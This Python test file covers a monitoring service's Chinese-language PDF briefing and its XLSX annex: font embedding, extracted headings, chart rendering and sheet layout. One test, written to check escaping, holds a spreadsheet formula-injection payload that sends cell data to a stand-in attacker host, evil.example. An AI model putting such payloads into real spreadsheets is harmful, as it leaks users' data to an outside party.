"""The briefing's PDF (rendered to PNG with poppler, its fonts and text read back) and its XLSX annex."""

from __future__ import annotations

import io
import shutil
import subprocess

import pytest
from coordination.desk_support import build_desk, parts_case
from openpyxl import load_workbook
from PIL import Image

from chainkeeper.coordination.models import CaseCategory
from chainkeeper.db import unit_of_work
from chainkeeper.monitoring.briefing import service
from chainkeeper.monitoring.briefing.annex import annex_xlsx
from chainkeeper.monitoring.briefing.content import bars, section, table
from chainkeeper.monitoring.briefing.pdf import PALETTE

pytestmark = pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler-utils not installed")


@pytest.fixture(scope="module")
def april(migrated_engines, tmp_path_factory):
    """The national April 2022 briefing of the desk's world, its PDF written to a file."""
    from conftest import clear_data

    engine = migrated_engines("sqlite")
    clear_data(engine)
    desk = build_desk(engine)
    with unit_of_work(engine) as session:
        parts_case(desk, session)
        parts_case(desk, session, blocking="ningbo", category=CaseCategory.logistics)
        briefing = service.generate(session=session, caller=desk.caller("ministry"), month="2022-04",
                                    region_code="00")
        pdf, xlsx = briefing.pdf, briefing.xlsx
    folder = tmp_path_factory.mktemp("pdf")
    (folder / "april.pdf").write_bytes(pdf)
    yield folder / "april.pdf", xlsx
    clear_data(engine)


def _run(*command: str) -> str:
    return subprocess.run(command, check=True, capture_output=True, text=True, timeout=60).stdout


def _colour(hex_code: str) -> tuple[int, int, int]:
    return tuple(int(hex_code[i:i + 2], 16) for i in (1, 3, 5))


def test_the_pdf_embeds_its_cjk_font(april):
    path, _xlsx = april
    fonts = _run("pdffonts", str(path)).splitlines()[2:]
    cjk = [line for line in fonts if "NotoSansCJK" in line]
    assert cjk and all(line.split()[-5] == "yes" for line in cjk), fonts  # the "emb" column


def test_the_pdf_text_has_the_chinese_headings(april):
    path, _xlsx = april
    text = _run("pdftotext", "-layout", str(path), "-")
    for heading in ("全国2022-04月度通报", "堵点卡点诉求办理情况", "白名单企业复工情况", "按类别统计的诉求"):
        assert heading in text, text[:500]


def test_the_pdf_pages_render_with_a_coloured_chart(april, tmp_path):
    path, _xlsx = april
    subprocess.run(["pdftoppm", "-r", "50", "-png", str(path), str(tmp_path / "page")], check=True, timeout=60)
    pages = sorted(tmp_path.glob("page*.png"))
    assert pages
    first = Image.open(pages[0]).convert("RGB")
    pixels = list(first.get_flattened_data())
    inked = sum(1 for p in pixels if sum(p) < 600)
    assert inked > len(pixels) * 0.01, "the first page is blank"
    bar = _colour(PALETTE[0])
    coloured = [i for i, p in enumerate(pixels) if all(abs(a - b) < 24 for a, b in zip(p, bar))]
    assert len(coloured) > 50, "no bar of the chart's first colour on the first page"
    rows = {i // first.width for i in coloured}
    assert max(rows) - min(rows) > 10  # a bar with height, not a stray line


def test_the_annex_has_a_sheet_per_section(april):
    _path, xlsx = april
    book = load_workbook(io.BytesIO(xlsx), read_only=True)
    assert book.sheetnames[:3] == ["通报", "堵点卡点诉求办理情况", "白名单企业复工情况"]
    cells = [value for row in book["堵点卡点诉求办理情况"].iter_rows(values_only=True) for value in row]
    assert "新增诉求" in cells and 2 in cells


def test_a_formula_in_the_data_stays_text_in_the_annex():
    content = {"title": "Briefing", "first_day": "2022-04-01", "last_day": "2022-04-30", "pending": [],
               "sections": [section("desk", "Blocking points at the desk", tables=[table(
                   "rows", "Cases by category", ["Region", "Opened"],
                   [['=HYPERLINK("http://evil.example/?d="&A2,"click")', 3], ["+1+2", 1]])],
                   charts=[bars("c", "Cases by category", ["x"], [("Opened", [1])])])]}
    book = load_workbook(io.BytesIO(annex_xlsx(content, "en")), read_only=True)
    cells = [value for row in book[book.sheetnames[1]].iter_rows(values_only=True) for value in row]
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"click\")" in cells and "'+1+2" in cells
    assert not any(isinstance(value, str) and value.startswith(("=", "+")) for value in cells)
